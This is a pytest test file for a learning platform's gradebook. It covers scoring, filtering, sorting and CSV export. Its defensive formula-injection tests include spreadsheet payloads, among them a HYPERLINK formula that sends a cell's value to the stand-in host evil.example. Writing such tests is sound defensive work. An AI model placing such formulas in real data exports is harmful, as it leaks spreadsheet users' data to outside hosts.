from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from factories import EXERCISES
from sqlmodel import Session

from grader import Exercise, load_exercise
from tracedojo.db import make_engine, migrate
from tracedojo.gradebook import (
    GradebookFilter,
    Progress,
    csv_header,
    gradebook,
    gradebook_csv,
    select_rows,
    spreadsheet_safe,
)
from tracedojo.models import QuizAnswer, Role, Submission, SubmissionStatus, User

T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def exercises() -> list[Exercise]:
    return [load_exercise(EXERCISES / "echo-once"), load_exercise(EXERCISES / "echo-loop")]


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Session]:
    engine = make_engine(f"sqlite:///{tmp_path / 'book.db'}")
    migrate(engine)
    with Session(engine, expire_on_commit=False) as session:
        yield session
    engine.dispose()


def _user(db: Session, name: str, role: Role = Role.LEARNER) -> User:
    user = User(username=name, password_hash="x", role=role)
    db.add(user)
    db.commit()
    db.refresh(user)
    return user


def _submission(
    db: Session, user: User, slug: str, status: SubmissionStatus, score: float | None, at: datetime
) -> None:
    assert user.id is not None
    db.add(
        Submission(
            user_id=user.id,
            exercise_slug=slug,
            exercise_version="v",
            code="x",
            status=status,
            score=score,
            max_score=7.0,
            created_at=at,
        )
    )
    db.commit()


def _answer(db: Session, user: User, slug: str, question: str, choice: str, correct: bool, at: datetime) -> None:
    assert user.id is not None
    db.add(
        QuizAnswer(
            user_id=user.id,
            exercise_slug=slug,
            exercise_version="v",
            question_id=question,
            choice=choice,
            correct=correct,
            created_at=at,
        )
    )
    db.commit()


def test_cells_count_first_tries_best_scores_attempts_and_last_activity(db: Session, exercises: list[Exercise]) -> None:
    echo_once = exercises[0]
    q1, q2 = echo_once.quiz[0], echo_once.quiz[1]
    ada, bob = _user(db, "ada"), _user(db, "bob")
    _user(db, "teacher", Role.INSTRUCTOR)
    _answer(db, ada, "echo-once", q1.id, q1.answer, True, T0)
    _answer(db, ada, "echo-once", q2.id, "Z", False, T0 + timedelta(minutes=1))
    _answer(db, ada, "echo-once", q2.id, q2.answer, True, T0 + timedelta(minutes=2))  # right, but not first try
    _submission(db, ada, "echo-once", SubmissionStatus.FAILED, 4.0, T0 + timedelta(minutes=3))
    _submission(db, ada, "echo-once", SubmissionStatus.PASSED, 7.0, T0 + timedelta(minutes=4))
    _submission(db, ada, "echo-once", SubmissionStatus.FAILED, 5.0, T0 + timedelta(minutes=9))
    _submission(db, bob, "echo-loop", SubmissionStatus.QUEUED, None, T0 + timedelta(minutes=5))

    rows = {r.username: r for r in gradebook(db, exercises=exercises)}
    assert set(rows) == {"ada", "bob"}  # instructors are not graded
    ada_cell = rows["ada"].exercises["echo-once"]
    assert (ada_cell.quiz_score, ada_cell.best_code_score, ada_cell.attempts, ada_cell.passed) == (1, 7.0, 3, True)
    assert ada_cell.last_activity == T0 + timedelta(minutes=9)
    assert rows["ada"].exercises["echo-loop"].last_activity is None
    assert rows["ada"].code_score == 7.0 and rows["ada"].exercises_passed == 1
    assert rows["ada"].max_score == sum(e.max_score for e in exercises)
    bob_cell = rows["bob"].exercises["echo-loop"]
    assert (bob_cell.attempts, bob_cell.best_code_score, bob_cell.passed) == (1, None, False)
    assert rows["bob"].last_activity == T0 + timedelta(minutes=5)


def test_filters_and_sorting(db: Session, exercises: list[Exercise]) -> None:
    ada, bob, cyd, _dan = (_user(db, n) for n in ("ada", "bob", "cyd", "dan"))
    _submission(db, ada, "echo-once", SubmissionStatus.PASSED, 7.0, T0)
    _submission(db, bob, "echo-once", SubmissionStatus.FAILED, 3.0, T0 + timedelta(hours=1))
    _submission(db, cyd, "echo-loop", SubmissionStatus.FAILED, 6.0, T0 + timedelta(hours=2))
    rows = gradebook(db, exercises=exercises)

    def names(**wanted: object) -> list[str]:
        return [r.username for r in select_rows(rows, GradebookFilter.model_validate(wanted))]

    assert names() == ["ada", "bob", "cyd", "dan"]
    assert names(search="Y") == ["cyd"]
    assert names(exercise="echo-once", progress=Progress.PASSED) == ["ada"]
    assert names(exercise="echo-once", progress=Progress.NOT_PASSED) == ["bob"]
    assert names(progress=Progress.NOT_PASSED) == ["bob", "cyd"]
    assert names(exercise="echo-once", progress=Progress.NOT_STARTED) == ["cyd", "dan"]
    assert names(progress=Progress.NOT_STARTED) == ["dan"]
    assert names(sort="last_activity", descending=True) == ["cyd", "bob", "ada", "dan"]
    assert names(sort="echo-once", descending=True) == ["ada", "bob", "cyd", "dan"]
    assert names(sort="code", descending=True)[:3] == ["ada", "cyd", "bob"]
    assert names(sort="username", descending=True) == ["dan", "cyd", "bob", "ada"]
    assert names(sort="no-such-key") == ["ada", "bob", "cyd", "dan"]


@pytest.mark.parametrize("dangerous", ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", '=HYPERLINK("http://x")'])
def test_cells_that_a_spreadsheet_would_run_are_defused(dangerous: str) -> None:
    assert spreadsheet_safe(dangerous) == "'" + dangerous
    assert spreadsheet_safe("ada-lovelace") == "ada-lovelace"


def test_csv_round_trip_is_safe_and_complete(db: Session, exercises: list[Exercise]) -> None:
    ada = _user(db, "ada")
    evil = _user(db, '=HYPERLINK("http://evil.example/?"&A1,"click")')  # not creatable by users; defended anyway
    _submission(db, ada, "echo-once", SubmissionStatus.PASSED, 7.0, T0)
    _submission(db, evil, "echo-loop", SubmissionStatus.FAILED, 2.5, T0)
    text = gradebook_csv(gradebook(db, exercises=exercises), exercises=exercises)
    assert text.endswith("\r\n") and "\r\n" in text.splitlines(keepends=True)[0]
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == csv_header(exercises) and len(table) == 3
    assert all(len(line) == len(table[0]) for line in table)
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    by_name = {r["username"]: r for r in records}
    assert set(by_name) == {"ada", "'" + evil.username}
    assert by_name["ada"]["echo-once code"] == "7" and by_name["ada"]["echo-once passed"] == "yes"
    assert by_name["ada"]["echo-once last activity (UTC)"] == "2026-03-01 09:00:00"
    assert by_name["ada"]["echo-loop code"] == "" and by_name["ada"]["echo-loop attempts"] == "0"
    assert by_name["'" + evil.username]["echo-loop code"] == "2.5"
    for line in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
